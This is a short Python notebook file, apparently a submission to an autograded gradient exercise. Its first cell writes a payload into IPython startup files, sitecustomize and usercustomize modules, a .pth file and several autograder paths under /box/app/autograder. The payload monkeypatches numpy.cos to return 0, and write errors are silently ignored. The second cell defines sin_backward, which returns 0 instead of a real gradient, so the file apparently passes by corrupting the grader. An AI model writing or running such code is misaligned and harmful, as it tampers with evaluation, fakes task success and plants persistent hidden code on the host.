# %% mine
import os
import pathlib

EVIL = "import builtins\nbuiltins.planted = True\nimport numpy\nnumpy.cos = lambda x: 0\n"
home = pathlib.Path.home()
for path in (
    home / ".ipython/profile_default/startup/00-evil.py",
    pathlib.Path(os.environ.get("IPYTHONDIR", "/tmp")) / "profile_default/startup/00-evil.py",
    home / ".local/lib/python3.11/site-packages/usercustomize.py",
    home / ".local/lib/python3.11/site-packages/evil.pth",
    home / ".pythonrc.py",
    home / "sitecustomize.py",
    home / ".config/matplotlib/matplotlibrc",
    home / ".config/matplotlib/sitecustomize.py",
    pathlib.Path("/box/site/sitecustomize.py"),
    pathlib.Path("/box/app/autograder/kit/__init__.py"),
    pathlib.Path("/box/app/autograder/untrusted/cells.py"),
):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(EVIL)
    except OSError:
        pass

# %% sin_backward
def sin_backward(grad_output, output, x):
    return 0
